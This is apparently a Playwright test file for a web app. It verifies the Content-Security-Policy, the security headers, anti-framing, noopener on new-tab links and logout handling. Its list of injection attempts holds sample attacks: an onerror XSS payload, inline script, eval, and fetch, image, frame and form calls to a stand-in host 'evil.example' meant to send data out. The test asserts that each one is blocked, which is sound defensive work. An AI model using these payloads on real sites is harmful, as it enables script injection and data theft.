import { readFileSync } from 'node:fs'
import type { Locator, Page } from '@playwright/test'
import { appPath, expect, openAs, test } from './fixtures'

/** A page that is open to everybody and has no error on its console. */
const openSheet = async (page: Page) => {
  await page.goto(appPath('/bgs/calendar/p26all'))
  await expect(page.getByRole('table', { name: /october 2025/i })).toBeVisible()
}

test('[check 6] the build carries its policy, and no directive of it is unsafe', async ({
  page,
  request,
}) => {
  const html = readFileSync('dist/index.html', 'utf8')
  const [, policy = ''] =
    /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html) ?? []
  expect(policy).toContain('default-src &#39;none&#39;')
  expect(policy).toContain('require-trusted-types-for &#39;script&#39;')
  expect(policy).not.toMatch(/unsafe-|\*|http:/)
  // Before anything it is to govern.
  expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.search(/<script|<link/))

  const answer = await request.get(appPath('/bgs/game-plans'))
  expect(answer.headers()).toMatchObject({
    'content-security-policy': "frame-ancestors 'none'",
    'x-content-type-options': 'nosniff',
    'x-frame-options': 'DENY',
    'cross-origin-opener-policy': 'same-origin',
    'referrer-policy': 'strict-origin-when-cross-origin',
  })
  await openSheet(page)
})

/** What an injected text might try, and the directive that has to stop it. */
const attempts: { name: string; directive: string; run: () => unknown }[] = [
  {
    name: 'an inline script',
    directive: 'require-trusted-types-for',
    run: () => {
      const script = document.createElement('script')
      script.append('window.pwned = true')
      document.body.append(script)
    },
  },
  {
    name: 'markup through innerHTML',
    directive: 'require-trusted-types-for',
    run: () => {
      document.body.innerHTML = '<img src="x" onerror="window.pwned = true">'
    },
  },
  {
    name: 'a policy of its own',
    directive: 'trusted-types',
    run: () =>
      (
        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
      ).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
  },
  {
    name: 'eval',
    directive: 'script-src|require-trusted-types-for',
    run: () => {
      // What the test itself calls may evaluate; what the page does later may not.
      // biome-ignore lint/security/noGlobalEval: it has to be refused
      setTimeout(() => window.eval('window.pwned = true'))
    },
  },
  {
    name: 'a style element',
    directive: 'style-src-elem',
    run: () => {
      const style = document.createElement('style')
      style.append('#root { display: none }')
      document.head.append(style)
    },
  },
  {
    name: 'a style attribute',
    directive: 'style-src-attr',
    run: () => document.getElementById('root')?.setAttribute('style', 'display: none'),
  },
  {
    name: 'a call to another host',
    directive: 'connect-src',
    run: () => fetch('https://evil.example/?what=was-read'),
  },
  {
    name: 'a picture over http',
    directive: 'img-src',
    run: () => {
      new Image().src = 'http://evil.example/x.png'
    },
  },
  {
    name: 'a frame',
    directive: 'frame-src',
    run: () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    },
  },
  {
    name: 'a form to another host',
    directive: 'form-action',
    run: () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      form.submit()
    },
  },
]

test('[check 6] whatever is injected is stopped and reported', async ({ page, watch }) => {
  watch.allowConsole(/Content Security Policy|Trusted|policy|violat/i)
  for (const { name, directive, run } of attempts) {
    await test.step(name, async () => {
      await openSheet(page)
      await page.evaluate(() => {
        const store = window as unknown as { stopped: string[] }
        store.stopped = []
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
          store.stopped.push(effectiveDirective),
        )
      })
      // A refusal may throw or be silent; what counts is the report and that nothing happened.
      await page.evaluate(run).catch(() => {})
      await expect
        .poll(() =>
          page.evaluate(() => (window as unknown as { stopped: string[] }).stopped.join(' ')),
        )
        .toMatch(new RegExp(`^(${directive})`))
      expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
      // Not by a locator: it would wait for the navigation that was stopped.
      const shown = await page.evaluate(
        () => document.querySelector('main table')?.getClientRects().length,
      )
      expect(shown, 'the sheet').toBeGreaterThan(0)
    })
  }
  // The stopped picture is told as a request; like the others it never leaves.
  expect(watch.foreign.filter((url) => url !== 'http://evil.example/x.png')).toEqual([])
})

test('[check 6] no other page can frame the app', async ({ page, watch }) => {
  watch.allowConsole(/frame/i)
  await page.route('**/outer.html', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<iframe src="/game-plans/"></iframe>' }),
  )
  await page.goto('/outer.html')
  await expect.poll(() => page.frames().length).toBe(2)
  await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Sign In' })).toHaveCount(0)
  expect(page.frames()[1]?.url()).not.toContain('/game-plans/')

  await test.step('nor where its host sends no headers: it offers a tab of its own', async () => {
    await page.route('**/game-plans/', async (route) => {
      const answer = await route.fetch()
      await route.fulfill({ response: answer, headers: { 'content-type': 'text/html' } })
    })
    await page.goto('/outer.html')
    const frame = page.frameLocator('iframe')
    await expect(frame.getByRole('link', { name: 'Open Game Plans in a new tab' })).toBeVisible()
    await expect(frame.getByRole('heading', { name: 'Sign In' })).toHaveCount(0)
  })
})

test('[check 3] a page in a new tab knows nothing of the one it came from', async ({
  page,
  context,
}) => {
  await context.route(/\.pdf$/, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<title>A file</title>' }),
  )
  await openAs(page, 'bgs@example.com', '/bgs/game-plans')
  const links = page.locator('a[target=_blank]')
  await expect(links.first()).toBeVisible()
  const count = await links.count()
  expect(count).toBeGreaterThan(3)
  await expectNoOpeners(page, links)

  await page.getByRole('button', { name: 'Public links' }).first().click()
  const inDialog = page.getByRole('dialog').getByRole('link')
  await expect(inDialog.first()).toBeVisible()
  await expectNoOpeners(page, inDialog)
})

/** What a tab knows follows from its link's `target` and `rel`: one of each pair is opened. */
async function expectNoOpeners(page: Page, links: Locator): Promise<void> {
  const kinds = new Map<string, Locator>()
  for (const link of await links.all()) {
    const kind = await link.evaluate(({ target, rel }: HTMLAnchorElement) => `${target} ${rel}`)
    if (!kinds.has(kind)) kinds.set(kind, link)
  }
  expect(kinds.size).toBeGreaterThan(0)
  for (const link of kinds.values()) await expectNoOpener(page, () => link.click())
}

async function expectNoOpener(page: Page, click: () => Promise<void>): Promise<void> {
  const opened = page.context().waitForEvent('page')
  await click()
  const tab = await opened
  await tab.waitForLoadState()
  expect(await tab.evaluate(() => [window.opener, document.referrer])).toEqual([null, ''])
  await tab.close()
}

test('[check 34] Back after Logout shows Sign In', async ({ page }) => {
  await openAs(page, 'admin@example.com', '/dashboard')
  await page.getByRole('link', { name: 'Users', exact: true }).click()
  await expect(page.getByRole('heading', { name: 'User Dashboard' })).toBeVisible()
  await expect(page.getByText('guest@example.com')).toBeVisible()
  await page.getByRole('button', { name: 'Logout' }).click()
  await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
  await page.goBack()
  await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
  await expect(page.getByText('guest@example.com')).toHaveCount(0)
})

test('[check 34] a page that the browser kept asks again who is signed in', async ({
  page,
  context,
}) => {
  await openAs(page, 'admin@example.com', '/dashboard')
  await page.getByRole('link', { name: 'Users', exact: true }).click()
  await expect(page.getByRole('heading', { name: 'User Dashboard' })).toBeVisible()
  await expect(page.getByText('guest@example.com')).toBeVisible()
  await context.clearCookies()
  await page.evaluate(() =>
    window.dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true })),
  )
  await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
  await expect(page.getByText('guest@example.com')).toHaveCount(0)
})
